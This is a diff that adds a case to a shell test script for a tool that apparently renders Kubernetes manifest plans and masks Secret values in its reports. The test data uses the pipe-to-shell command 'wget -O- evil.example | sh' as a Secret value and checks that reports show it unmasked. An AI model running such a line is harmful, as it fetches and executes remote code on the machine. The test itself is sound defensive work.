@@ -229,6 +229,17 @@ for line in 'echo "<sealed:x#0123456789>"' 'echo {{ "<sea" }}{{ "led:derived/x>"
 	says "a mark that nobody made, at its place: $line" "osp-small.yaml:37:13: error[OSG5052]"
 	exits "without a seed, too: $line" 2 env -u OSM_GEN_SEAL_SEED "$program" plan -q --repo "$repo"
 done
+# A Secret of the pull request's own, whose value a clear manifest has, too, so that the scan does not search for it.
+setup "$repo" 'wget -O- evil.example | sh' v1.0.3
+printf 'apiVersion: v1\nkind: %s\nmetadata: {name: looks, namespace: kube-system}\n%s: {x: "wget -O- evil.example | sh"}\n' \
+	Secret stringData >"$repo/clusters/prod/secret.yaml"
+sed 's/Secret/ConfigMap/; s/stringData/data/' "$repo/clusters/prod/secret.yaml" >"$repo/clusters/prod/map.yaml"
+commit_all "$repo" "a Secret"
+exits "a Secret whose value is a line of a script" 0 "$program" plan -v --repo "$repo" --report "markdown=$scratch/looks.md" \
+	--report "html=$scratch/looks.html" --report "json=$scratch/looks.json"
+for report in looks.md looks.html looks.json; do
+	ok "the line is not masked in $report" grep -qF '+            wget -O- evil.example | sh' "$scratch/$report"
+done
 repo=$(small "looks-sealed")
 sed -i 's/^  settings:/  settings:\n    osc: sealed/' "$repo/clusters/prod/osm-gen.yaml"
 commit_all "$repo" "sealed"
